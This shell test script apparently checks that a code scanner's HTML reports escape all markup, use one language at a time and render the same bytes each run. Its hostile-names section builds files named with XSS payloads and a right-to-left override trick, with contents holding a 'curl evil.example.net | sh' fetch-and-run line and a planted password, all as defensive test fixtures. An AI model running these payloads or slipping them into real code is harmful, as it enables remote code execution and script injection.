# The HTML page of a report: all that the report holds is in it, the way from 100 to trust adds up to the tenth of a point, its
# words are of one language, and nothing of the product's becomes markup.
. tests/tap.sh
check() { /usr/bin/python3 "$here/tests/report_html.py" "$@"; }
page() { "$PROBITY" report "$1" -f html --lang "${3:-en}" -o "$2"; }

# --- formats of this test's own: the words, and the curve of the score
mkdir "$scratch/own"
cat >"$scratch/own/words.lua" <<'END'
local json = require "probity.json"
local languages = { en = require "lib.words_en", fr = require "lib.words_fr" }
return {
  title = "words", extension = "jsonl", type = "application/jsonl", takes = "report",
  render = function(_, out)
    local keys = {}
    for lang, words in pairs(languages) do
      for key, text in pairs(words) do
        keys[key] = keys[key] or { key = key }
        keys[key][lang] = text
      end
    end
    for _, row in pairs(keys) do
      out(json.encode(row), "\n")
    end
  end,
}
END
cat >"$scratch/own/curve.lua" <<'END'
local arith = require "lib.arith"
return {
  title = "curve", extension = "txt", type = "text/plain", takes = "report",
  render = function(_, out)
    for i = 0, 999 do
      out(arith.half(i), "\n")
    end
  end,
}
END
mkdir -p "$scratch/product"
echo 'int main(void) { return 0; }' >"$scratch/product/main.c"
scan "$scratch/product"
printf '%s\n' "$out" >"$scratch/plain.json"
own() { "$PROBITY" report --templates "$scratch/own" -f "$1" "$scratch/plain.json"; }
own words >"$scratch/words.jsonl"
ok "the words of all languages: same keys, all used, none missing, as the rule sets have them" check words "$scratch/words.jsonl" "$here"
is "the curve of the score is that of plugin/score" "$(own curve | md5sum)" \
  "$(grep -oE '\b[0-9]{9,10}\b' "$here/plugin/score/p2.c" | md5sum)"

# --- thirty products of all kinds
made=0 wrong=0
for product in "$here"/tests/samples/*/*/; do
  ((made < 30)) || break
  scan "$product"
  [[ -n $out ]] || continue
  made=$((made + 1))
  printf '%s\n' "$out" >"$scratch/report.json"
  page "$scratch/report.json" "$scratch/page.html" || { flunk "page of $product"; continue; }
  check page "$scratch/report.json" "$scratch/page.html" >"$scratch/said" || { wrong=$((wrong + 1)) && flunk "page of $product" "$(<"$scratch/said")"; }
done
is "30 reports: every key is there, and the steps add up to trust" "$made $wrong" "30 0"

# --- a product whose names are markup
mkdir -p "$scratch/hostile/<script>alert(1)<"
for name in '"><img src=x onerror=alert(1)>.sh' "' onmouseover='alert(1).py" '<title><svg onload=alert(1)>.js' $'a\u202egpj.exe.sh' '{policy}.py'; do
  printf '#!/bin/sh\ncurl http://evil.example.net/x?"onload=1 | sh\nimport os\npassword = "hunter2hunter2"\n' >"$scratch/hostile/<script>alert(1)<"/"$name"
done
scan "$scratch/hostile"
printf '%s\n' "$out" >"$scratch/hostile.json"
for lang in en fr; do
  ok "hostile names, $lang: a page" page "$scratch/hostile.json" "$scratch/hostile.$lang.html" $lang
  ok "... whole, and all of it is text" check page "$scratch/hostile.json" "$scratch/hostile.$lang.html" "$scratch/words.jsonl" $lang
done
mkdir "$scratch/corpus"
ok "a corpus of hostile reports" /usr/bin/python3 "$here/tests/reports/make_hostile.py" reports "$scratch/report.json" "$scratch/corpus"
for report in "$scratch"/corpus/*.json; do
  name=$(basename "$report" .json)
  run "$PROBITY" report "$report" -f html -o "$scratch/$name.html"
  if ((rc == 0)); then
    /usr/bin/python3 - "$here/tests" "$scratch/$name.html" <<'END' >"$scratch/said" && pass "$name: all of it is text" || flunk "$name" "$(<"$scratch/said")"
import sys
sys.path.insert(0, sys.argv[1])
import report_html
page = report_html.Page(open(sys.argv[2], encoding="utf-8").read())
wrong = report_html.closed(page)
print("\n".join(wrong[:10]))
sys.exit(bool(wrong))
END
  elif [[ $rc == 2 && $err == *"a NUL character in a text"* ]]; then
    pass "$name: no report, and said so"
  else
    flunk "$name is rendered" "$err"
  fi
done

# --- the same report, the same bytes; another language, none that is not there
page "$scratch/report.json" "$scratch/again.html"
ok "the same bytes again" cmp "$scratch/page.html" "$scratch/again.html"
page "$scratch/report.json" "$scratch/page.fr.html" fr
ok "in French, and in nothing else" check page "$scratch/report.json" "$scratch/page.fr.html" "$scratch/words.jsonl" fr
like "the page says its language" "$(head -c 200 "$scratch/page.fr.html")" '<html lang="fr">'
status "a language that is not there" 2 "$PROBITY" report "$scratch/report.json" -f html --lang xx
done_testing
